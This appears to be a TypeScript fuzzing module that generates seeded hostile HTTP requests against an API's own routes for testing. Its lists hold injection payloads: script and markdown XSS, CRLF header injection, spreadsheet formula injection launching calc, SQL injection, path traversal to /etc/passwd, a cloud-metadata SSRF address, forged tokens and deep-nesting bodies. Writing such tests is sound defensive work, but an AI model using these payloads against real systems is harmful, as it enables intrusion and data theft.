import { sampleOf } from '../../../lib/http/sample.ts';
import { fieldPaths, withValueAt } from '../schema-fields.ts';
import { isList, type NamedRoute, NOWHERE, pathOf, routes } from './routes.ts';

export type HostileCaller = 'owner' | 'viewer' | 'contact' | 'nobody';

export interface HostileRequest {
  /** What is hostile about it. */
  kind: string;
  route: NamedRoute;
  /** With the query. */
  path: string;
  caller: HostileCaller;
  headers: Record<string, string>;
  raw?: string | Uint8Array<ArrayBuffer>;
}

/** Random choices that are the same for the same seed. */
interface Chance {
  /** An integer from 0 to `below`, exclusive. */
  below(below: number): number;
  of<T>(values: readonly T[]): T;
  /** True so many times in a hundred. */
  percent(share: number): boolean;
}

/** mulberry32: small, and good enough to choose requests. */
function chanceFrom(seed: number): Chance {
  let state = seed >>> 0;
  function next(): number {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  }
  const below = (count: number) => Math.floor(next() * count);
  return {
    below,
    of(values) {
      const value = values[below(values.length)];
      if (value === undefined) throw new Error('there is nothing to choose from');
      return value;
    },
    percent: (share) => next() * 100 < share,
  };
}

/** Injections and texts that break what reads them. */
const TEXTS = [
  '\ud800',
  'a\udc00b@x.example',
  'a\u0000b',
  '\u0000',
  '\u202egnp.exe',
  'a\u200bb\u00adc',
  'e\u0301\u0301\u0301\u0301',
  'one\r\ntwo\r\nBcc: victim@x.example',
  'x@x.example\r\nBcc: victim@x.example',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '[click](javascript:alert(1)) ![x](https://evil.example/$portal.link)',
  '=HYPERLINK("https://evil.example","x")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '$client.name {{client.name}} <%= 7*7 %> #{7*7} {year}',
  '{date:yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyx}',
  '{counter:999999999}{random:999999999}',
  "' OR 1=1; DROP TABLE clients; --",
  '../../../../etc/passwd',
  'https://user:password@evil.example/%0d%0aSet-Cookie:x',
  'http://169.254.169.254/latest/meta-data/',
  '#'.repeat(300),
  '__proto__',
  'constructor',
  '',
  ' ',
  '\u{1f600}'.repeat(300),
  '9'.repeat(400),
  '2026-02-31',
  '-0',
];

const LONG_PARTS = ['a', ' ', '1', '\u0301', '-', 'a@', '{'];

const WRONG_VALUES = [0, -1, 0.1, 1e308, -1e308, 2 ** 53, true, false, null, [], {}, [[[]]], [null], { a: { b: [] } }];

const WRONG_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '',
  'a/b~c',
  '\ud800',
  '\u0000',
];

const RAW_BODIES: readonly (string | Uint8Array<ArrayBuffer>)[] = [
  '',
  '{',
  '{}{}',
  '{"a":1,}',
  'NaN',
  '\ufeff{}',
  '{"name":1e999}',
  '{"name":"\\ud800"}',
  '{"name":"a","name":"b","name":{}}',
  '"text"',
  'null',
  '['.repeat(50_000),
  `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
  `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
  new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  new Uint8Array([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d]),
  new Uint8Array([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]),
];

const CONTENT_TYPES = [
  '',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/json, text/html',
  'application/jsonx',
  `application/${'a'.repeat(3000)}+json`,
  'application/xml',
];

const HEADERS: readonly (readonly [name: string, values: readonly string[]])[] = [
  ['if-match', ['*', 'W/"1"', '"', '"1", "2", "x"', '"99999999999999999999"', '""', `"${'1'.repeat(4000)}"`]],
  ['if-none-match', ['*', '"', 'W/"1"', '"1"'.repeat(500)]],
  ['idempotency-key', ['', ' ', 'a b', 'x'.repeat(256), '\u00fc', '__proto__', '{}']],
  ['range', ['bytes=0-1', 'bytes=-', 'bytes=9999999999999-']],
  ['accept', ['text/html', '*/*;q=0', 'application/pdf', 'x'.repeat(2000)]],
  ['act-as', ['con_01JD8X3V5QZ7M2K4N6P8R0S1TA', 'x', '__proto__']],
  ['x-forwarded-for', ['127.0.0.1, ::1', "' OR 1=1", 'x'.repeat(3000)]],
  ['x-http-method-override', ['DELETE', 'GET']],
  ['cookie', ['session=x; __proto__=1', 'a'.repeat(4000)]],
  ['content-encoding', ['gzip', 'br', 'identity']],
  ['accept-language', ['xx-YY;q=nan', 'de-'.repeat(900)]],
  ['origin', ['https://evil.example', 'null']],
];

const TOKENS = [
  'Bearer',
  'Bearer ',
  'Basic YWRtaW46YWRtaW4=',
  `Bearer ${'a'.repeat(4000)}`,
  'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJvd25lciJ9.',
  `Bearer clt_${'0'.repeat(26)}.${'0'.repeat(26)}.${'A'.repeat(43)}`,
  'Bearer clt_../..',
  'bearer __proto__.constructor.prototype',
  'Bearer a, Bearer b',
];

const PARAMETERS = [
  '%00',
  '%2e%2e%2f%2e%2e',
  '%ED%A0%80',
  '%zz',
  '__proto__',
  'cli_',
  'cli_01JD8X3V5QZ7M2K4N6P8R0S1TA%00',
  'CLI_01JD8X3V5QZ7M2K4N6P8R0S1TA',
  'usr_01JD8X3V5QZ7M2K4N6P8R0S1TA',
  'x'.repeat(3000),
  '%F0%9F%98%80',
  '*',
  "'%20OR%201=1",
  '%23',
  '%3Flimit=1',
];

const QUERY_VALUES = [
  '',
  '%00',
  '%ED%A0%80',
  '%zz',
  '-1',
  '0',
  '201',
  '1e9',
  'NaN',
  '1.5',
  '__proto__',
  '2026-02-31',
  'null',
  encodeURIComponent('\u202e\u0301'),
  'a'.repeat(3500),
  encodeURIComponent(' '.repeat(1000)),
  'a,b,c,'.repeat(300),
  "'%20OR%201=1",
  'A'.repeat(80),
];

const QUERY_NAMES = [
  'nope',
  '__proto__',
  'constructor',
  'limit',
  'cursor',
  'q',
  'metadata[__proto__]',
  'a[b][c]',
  '%00',
  '',
];

/** For all routes in turn, `count` hostile requests of random kinds; the same ones for the same seed. */
export function hostileRequests(seed: number, count: number, ids: Readonly<Record<string, string>>): HostileRequest[] {
  const chance = chanceFrom(seed);
  return Array.from({ length: count }, (_, index) => {
    const route = routes[index % routes.length];
    if (!route) throw new Error('there are no routes');
    return hostileRequest(chance, route, ids);
  });
}

function hostileRequest(chance: Chance, named: NamedRoute, ids: Readonly<Record<string, string>>): HostileRequest {
  const { route } = named;
  // Deletions would leave nothing to attack, and signing out nobody to attack with.
  const spared = route.method === 'DELETE' && chance.percent(95);
  const base = {
    route: named,
    path: pathOf(route, spared || chance.percent(10) ? NOWHERE : ids),
    caller: callerFor(chance, named),
    headers: keyFor(chance, named),
    ...(route.body && { raw: JSON.stringify(sampleOf(route.body)) }),
  };
  const makers = [
    ...(route.body
      ? [
          textField,
          textField,
          textField,
          wrongField,
          wrongField,
          wrongNames,
          longField,
          longField,
          manyItems,
          deepField,
        ]
      : []),
    ...(route.body ? [rawBody, contentType] : []),
    ...(route.params ? [parameter, parameter] : []),
    ...(isList(route) ? [query, query, query] : []),
    query,
    header,
    header,
    token,
  ];
  return chance.of(makers)(chance, base);
}

/** Keys of a few values, so that they meet. */
function keyFor(chance: Chance, { route }: NamedRoute): Record<string, string> {
  return route.method === 'POST' && chance.percent(25) ? { 'idempotency-key': `key-${chance.below(20)}` } : {};
}

type Base = Omit<HostileRequest, 'kind'>;
type Maker = (chance: Chance, base: Base) => HostileRequest;

function callerFor(chance: Chance, { route: { access, path } }: NamedRoute): HostileCaller {
  if (path.endsWith('/sign-out')) return 'nobody';
  const usual: HostileCaller = access === 'public' ? 'nobody' : access === 'portal' ? 'contact' : 'owner';
  return chance.percent(75) ? usual : chance.of(['owner', 'viewer', 'contact', 'nobody']);
}

/** The body with another value in one of its fields. */
function withField(chance: Chance, { route: { route }, raw }: Base, value: unknown): string {
  const sample: unknown = JSON.parse(String(raw));
  const paths = fieldPaths(route.body);
  return JSON.stringify(paths.length === 0 ? value : withValueAt(sample, chance.of(paths), value));
}

const textField: Maker = (chance, base) => {
  const text = chance.of(TEXTS);
  return { ...base, kind: `text ${JSON.stringify(text.slice(0, 30))}`, raw: withField(chance, base, text) };
};

const wrongField: Maker = (chance, base) => {
  const value = chance.of(WRONG_VALUES);
  return { ...base, kind: `value ${JSON.stringify(value)}`, raw: withField(chance, base, value) };
};

const wrongNames: Maker = (chance, base) => {
  const names = chance.percent(40)
    ? Array.from({ length: 3000 }, (_, index) => `unknown ${index}`)
    : [chance.of(WRONG_NAMES)];
  const members = Object.fromEntries(names.map((name) => [name, 'x']));
  const kind = `names ${names.length === 1 ? JSON.stringify(names[0]) : names.length}`;
  if (chance.percent(50)) return { ...base, kind, raw: withField(chance, base, members) };
  return { ...base, kind, raw: JSON.stringify({ ...JSON.parse(String(base.raw)), ...members }) };
};

const longField: Maker = (chance, base) => {
  const part = chance.of(LONG_PARTS);
  // With the rest of the body below the limit of 1 MiB.
  const text = part.repeat(Math.floor(900_000 / Buffer.byteLength(part))) + chance.of(['\u0000', '\u0000', '\n', '!']);
  return { ...base, kind: `long ${JSON.stringify(part)}`, raw: withField(chance, base, text) };
};

const manyItems: Maker = (chance, base) => {
  const item = chance.of<unknown>([1, 'a', null, {}, [], { name: 'x' }]);
  const items = Array.from({ length: chance.of([600, 60_000]) }, () => item);
  return { ...base, kind: `${items.length} × ${JSON.stringify(item)}`, raw: withField(chance, base, items) };
};

const deepField: Maker = (chance, base) => {
  const depth = chance.of([100, 3000, 50_000]);
  const deep = chance.of([`${'['.repeat(depth)}${']'.repeat(depth)}`, `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`]);
  return { ...base, kind: `depth ${depth}`, raw: withField(chance, base, 'DEEP').replace('"DEEP"', deep) };
};

const rawBody: Maker = (chance, base) => ({ ...base, kind: 'raw body', raw: chance.of(RAW_BODIES) });

const contentType: Maker = (chance, base) => {
  const type = chance.of(CONTENT_TYPES);
  return { ...base, kind: `type ${type.slice(0, 40)}`, headers: { ...base.headers, 'content-type': type } };
};

const header: Maker = (chance, base) => {
  const [name, values] = chance.of(HEADERS);
  const value = chance.of(values);
  return { ...base, kind: `${name}: ${value.slice(0, 30)}`, headers: { ...base.headers, [name]: value } };
};

const token: Maker = (chance, base) => {
  const authorization = chance.of(TOKENS);
  const kind = `authorization: ${authorization.slice(0, 30)}`;
  return { ...base, kind, caller: 'nobody', headers: { ...base.headers, authorization } };
};

const parameter: Maker = (chance, base) => {
  const value = chance.of(PARAMETERS);
  const { path } = base.route.route;
  const names = [...path.matchAll(/\{(\w+)\}/g)].map(([, name = '']) => name);
  const attacked = chance.of(names);
  const ids = Object.fromEntries([...Object.entries(NOWHERE), [attacked, value]]);
  return { ...base, kind: `{${attacked}}=${value.slice(0, 30)}`, path: pathOf(base.route.route, ids) };
};

const query: Maker = (chance, base) => {
  const known = Object.keys(base.route.route.query?.shape ?? {});
  const name = known.length > 0 && chance.percent(80) ? chance.of(known) : chance.of(QUERY_NAMES);
  const value = chance.of(QUERY_VALUES);
  const repeated = chance.percent(15) ? `&${name}=${chance.of(QUERY_VALUES)}` : '';
  return { ...base, kind: `?${name}=${value.slice(0, 30)}`, path: `${base.path}?${name}=${value}${repeated}` };
};
